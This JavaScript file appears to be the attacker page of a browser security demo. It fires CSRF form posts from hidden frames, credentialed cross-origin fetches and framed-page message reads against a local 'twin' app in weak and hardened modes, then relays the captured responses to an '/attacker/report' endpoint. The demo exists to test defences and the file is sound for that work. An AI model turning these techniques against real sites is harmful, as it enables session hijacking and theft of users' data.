/**
 * What the attacker's page runs. Each attack does what any page could, and says what it has heard; the server assesss.
 * @typedef {{ attempt: string, attack: string, weakened: boolean, origin: string, origins: Record<string, string> }} Work
 */

/** @type {Record<string, (work: Work) => Promise<string[]>>} */
const attacks = {
  /** A form in a hidden frame, as any page can send: no header can be added. */
  'sibling-form': (work) => postForm(addressOf(work)),
  'foreign-form': (work) => postForm(addressOf(work)),
  /** A page of the twin, with a comment of the attacker's in it. */
  'read-storage': (work) => hearPage(work),
  'injected-script': (work) => hearPage(work),
  /** A script, with cookies: first as plain as can be, then as the app's own would. */
  'neighbour-script': async (work) => [
    await hear(addressOf(work), { credentials: 'include' }),
    await hear(addressOf(work, 'attacker, with X-CSRF'), {
      credentials: 'include',
      headers: { 'X-CSRF': '1' },
    }),
  ],
};

/** @param {Work} work */
function addressOf({ attempt, attack, weakened, origins }, by = 'attacker') {
  const path = weakened ? `${origins['weak']}/weak/${attack}/data` : `${origins['bff']}/bff/sessions`;
  return `${path}?attempt=${attempt}.${encodeURIComponent(by)}`;
}

/** The victim uses the twin in the same browser. @param {Work} work */
async function signVictimIn(work) {
  const frame = document.createElement('iframe');
  frame.src = addressOf(work, 'you').replace('/data?', '/session?');
  await loaded(frame, () => document.body.append(frame));
  frame.remove();
}

/** @param {string} action @returns {Promise<string[]>} */
async function postForm(action) {
  const frame = document.createElement('iframe');
  frame.name = 'target';
  frame.src = '/attacker/empty';
  await loaded(frame, () => document.body.append(frame));
  const form = document.createElement('form');
  Object.assign(form, { method: 'post', action, target: frame.name });
  document.body.append(form);
  // Not every browser says that a frame has loaded what it does not show.
  await Promise.race([loaded(frame, () => form.submit()), fetch('/attacker/answered')]);
  frame.remove();
  form.remove();
  return [];
}

/** @param {HTMLIFrameElement} frame @param {() => void} act @returns {Promise<void>} */
function loaded(frame, act) {
  return new Promise((resolve) => {
    frame.addEventListener('load', () => resolve(), { once: true });
    act();
  });
}

/** What a script in the twin's page tells. @param {Work} work @returns {Promise<string[]>} */
function hearPage(work) {
  return new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.src = addressOf(work, 'you').replace('/data?', '/page?');
    addEventListener(
      'message',
      ({ data }) => {
        frame.remove();
        resolve(/** @type {string[]} */ (data));
      },
      { once: true },
    );
    document.body.append(frame);
  });
}

/** @param {string} address @param {RequestInit} init */
async function hear(address, init) {
  try {
    const answer = await fetch(address, init);
    return `${answer.status} ${await answer.text()}`;
  } catch {
    return 'nothing';
  }
}

/** @param {string} text */
function say(text) {
  const says = document.querySelector('#says');
  if (says) says.textContent = text;
}

for (;;) {
  const answer = await fetch('/attacker/work').catch(() => undefined);
  if (!answer) {
    say('The demo has ended. Close this window.');
    break;
  }
  if (answer.status !== 200) continue;
  const work = /** @type {Work} */ (await answer.json());
  if (work.origin !== location.origin) {
    location.replace(`${work.origin}/attacker/`);
    break;
  }
  say(`Attacks: ${work.attack}`);
  if (work.weakened) await signVictimIn(work);
  const heard = await attacks[work.attack]?.(work);
  await fetch('/attacker/report', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ attempt: work.attempt, heard: heard ?? [] }),
  });
  say('Done. Leave this window open: the next attack needs it too.');
}
